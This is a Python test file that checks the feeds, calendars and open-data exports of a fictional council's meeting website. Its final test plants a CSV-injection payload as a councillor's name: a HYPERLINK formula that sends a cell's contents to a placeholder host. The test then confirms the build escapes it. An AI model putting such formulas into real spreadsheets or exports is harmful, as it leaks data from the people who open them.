"""Feeds, calendars and open data of the built Strathbrae fixture council, read back with the
libraries their users' tools use."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path
from zoneinfo import ZoneInfo

import feedparser
import icalendar
import jsonschema
import pytest
from frictionless import Package

from minutebook.opendata import recommendations_schema
from tests.conftest import ROOT, STRATHBRAE, build_fixture_council

BASE = "https://meetings.strathbrae.example/"
HOST = "meetings.strathbrae.example"
REVIEW = "Scrutiny Review: Winter Roads Maintenance"


def build(out: Path) -> None:
    result = build_fixture_council(out, "--no-search")
    assert result.code == 0, result.stderr


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("opendata") / "public"
    build(out)
    return out


def test_open_data_site_feed_is_valid_atom_with_stable_ids_and_dates(built):
    feed = feedparser.parse((built / "feed.xml").read_bytes())
    assert not feed.bozo, feed.get("bozo_exception")
    assert feed.version == "atom10"
    assert feed.feed.id.startswith(f"tag:{HOST},2000:")
    assert {link.rel for link in feed.feed.links} == {"alternate", "self"}
    ids = [entry.id for entry in feed.entries]
    assert len(ids) == len(set(ids)) > 20
    for entry in feed.entries:
        assert entry.updated_parsed and entry.link.startswith(BASE)
    assert feed.feed.updated == max(entry.updated for entry in feed.entries)
    titles = [entry.title for entry in feed.entries]
    assert "Minutes: Policy and Resources Committee, 9 November 2023" in titles
    assert "Minutes: Planning Committee, 17 October 2024" not in titles, "a cancelled meeting has no minutes"


def test_open_data_one_recommendation_can_be_followed(built):
    feed = feedparser.parse((built / "reviews/winter-roads/recommendations/4/feed.xml").read_bytes())
    assert [e.title for e in feed.entries] == [
        f"Recommendation 4 of {REVIEW}: rejected",
        f"Recommendation 4 of {REVIEW}: made",
    ]
    page = (built / "reviews/winter-roads/recommendations/4/index.html").read_text()
    assert 'type="application/atom+xml"' in page and "recommendations/4/feed.xml" in page


def test_open_data_feeds_are_reproducible(built, tmp_path):
    again = tmp_path / "again"
    build(again)
    assert (again / "feed.xml").read_bytes() == (built / "feed.xml").read_bytes()


def test_open_data_calendars_load_back_with_local_times_either_side_of_the_clock_change(built):
    london = ZoneInfo("Europe/London")
    committee = icalendar.Calendar.from_ical((built / "committees/policy-resources/meetings.ics").read_bytes())
    starts = {str(e["uid"]): e.decoded("dtstart") for e in committee.walk("VEVENT")}
    winter, summer = f"policy-resources-2023-11-09@{HOST}", f"policy-resources-2024-05-16@{HOST}"
    assert starts[winter] == dt.datetime(2023, 11, 9, 10, 0, tzinfo=london)
    assert starts[winter].utcoffset() == dt.timedelta(0)  # GMT after October
    # A meeting in summer time: 10:00 BST is 09:00 UTC.
    assert starts[summer].astimezone(dt.UTC) == dt.datetime(2024, 5, 16, 9, 0, tzinfo=dt.UTC)
    assert starts[summer].utcoffset() == dt.timedelta(hours=1)
    # The cancelled meeting, in the calendar of all meetings: 10:00 BST on 17 October 2024.
    everything = icalendar.Calendar.from_ical((built / "meetings/meetings.ics").read_bytes())
    (event,) = [e for e in everything.walk("VEVENT") if str(e["uid"]) == f"planning-2024-10-17@{HOST}"]
    assert event.decoded("dtstart").astimezone(dt.UTC) == dt.datetime(2024, 10, 17, 9, 0, tzinfo=dt.UTC)
    assert str(event["status"]) == "CANCELLED"
    assert str(event["location"]) == "Council Chamber, Council Buildings, Harbour Street, Port Ardlin"
    assert str(event["url"]) == BASE + "meetings/planning-2024-10-17/"
    assert len(everything.walk("VEVENT")) == len(list((STRATHBRAE / "meetings").glob("*.yaml")))


def test_open_data_package_validates_with_frictionless(built):
    report = Package(str(built / "data/datapackage.json")).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:10]
    package = json.loads((built / "data/datapackage.json").read_text())
    assert package["licenses"][0]["title"] == "Open Government Licence v3.0"
    assert package["created"] == "2025-03-01T00:00:00Z"


def test_open_data_one_row_per_recommendation_filled_as_on_the_site(built):
    rows = list(csv.DictReader(io.StringIO((built / "data/recommendations.csv").read_text())))
    pages = sorted((built / "reviews").glob("*/recommendations/*/index.html"))
    assert len(rows) == len(pages) == len(list((STRATHBRAE / "reviews").glob("*/recommendations/*.yaml"))) == 6
    row = next(r for r in rows if r["review"] == "winter-roads" and r["id"] == "5")
    assert row["officers"] == "Calum Struthers"
    # The action-by date as moved on 12 September 2024, overdue on 1 March 2025.
    assert row["action_by"] == "2024-12" and row["status"] == "in progress" and row["overdue"] == "true"
    assert row["decision"] == "accepted"
    assert "twelve relief drivers by October 2024" in row["response"]
    assert row["url"] == BASE + "reviews/winter-roads/recommendations/5/"
    assert [r["id"] for r in rows if r["overdue"] == "true"] == ["5"]
    noted = next(r for r in rows if r["id"] == "3")
    assert noted["officers"] == "" and noted["responsible_team"] == "Brae Valley Transport Partnership"
    assert noted["decision"] == "noted" and noted["action_by"] == "to be agreed"
    page = (built / "reviews/winter-roads/recommendations/5/index.html").read_text()
    assert "Calum Struthers" in page and "December 2024" in page and "Accepted" in page


def test_open_data_recommendations_json_follows_its_schema(built):
    schema = json.loads((ROOT / "docs/schemas/recommendations.schema.json").read_text())
    assert schema == json.loads(recommendations_schema()), "run the schema export again: the fields changed"
    jsonschema.validate(json.loads((built / "data/recommendations.json").read_text()), schema)


def test_open_data_popolo_and_ocd(built):
    popolo = json.loads((built / "data/popolo.json").read_text())
    assert {"persons", "organizations", "memberships"} <= set(popolo)
    assert {
        "person_id": "cllr-sinclair",
        "organization_id": "scrutiny-panel",
        "role": "chair",
        "start_date": None,
        "end_date": None,
    } in popolo["memberships"]
    assert {
        "person_id": "cllr-menzies",
        "organization_id": "scrutiny-panel",
        "role": "vice-chair",
        "start_date": "2024-05-30",
        "end_date": None,
    } in popolo["memberships"]
    events = json.loads((built / "data/ocd-events.json").read_text())
    meeting = next(e for e in events if e["id"] == "policy-resources-2023-11-09")
    assert meeting["start_date"] == "2023-11-09T10:00:00" and meeting["timezone"] == "Europe/London"
    assert meeting["agenda"][3]["description"] == "Harbour wall at Port Ardlin: options and costs for repair"


def test_open_data_structured_data_sitemap_and_robots(built):
    page = (built / "meetings/policy-resources-2023-11-09/index.html").read_text()
    data = json.loads(page.split('<script type="application/ld+json">')[1].split("</script>")[0])
    kinds = [item["@type"] for item in data["@graph"]]
    assert kinds == ["BreadcrumbList", "Event"]
    event = data["@graph"][1]
    assert event["startDate"] == "2023-11-09T10:00:00+00:00"
    assert '<meta property="og:title" content="Policy and Resources Committee, 9 November 2023">' in page
    summer = (built / "meetings/policy-resources-2024-05-16/index.html").read_text()
    summer_data = json.loads(summer.split('<script type="application/ld+json">')[1].split("</script>")[0])
    assert summer_data["@graph"][1]["startDate"] == "2024-05-16T10:00:00+01:00"
    sitemap = (built / "sitemap.xml").read_text()
    assert f"<loc>{BASE}meetings/policy-resources-2023-11-09/</loc>" in sitemap and "404" not in sitemap
    assert (built / "robots.txt").read_text().endswith(f"Sitemap: {BASE}sitemap.xml\n")


def test_open_data_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(site):
    # OWASP "CSV Injection": a spreadsheet runs a cell starting = + - @ or a tab as a formula.
    formula = '=HYPERLINK("https://example.com/?"&A1,"Click")'
    person = site.content / "people" / "cllr-brown.yaml"
    person.write_text(f"name: '{formula}'\nkind: councillor\n")  # no honorific: the name starts the cell
    result = site.run("build", "--no-search", "--as-of", "2015-06-01")
    assert result.code == 0, result.stderr
    public = site.root / "public"
    people = list(csv.DictReader(io.StringIO((public / "data" / "people.csv").read_text())))
    assert "'" + formula in [row["name"] for row in people]
    cells = [
        cell for path in public.rglob("*.csv") for row in csv.reader(io.StringIO(path.read_text())) for cell in row
    ]
    assert cells.count("'" + formula) >= 2  # the people dataset and the committee's members table
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    assert any(person["name"] == formula for person in json.loads((public / "data" / "people.json").read_text()))
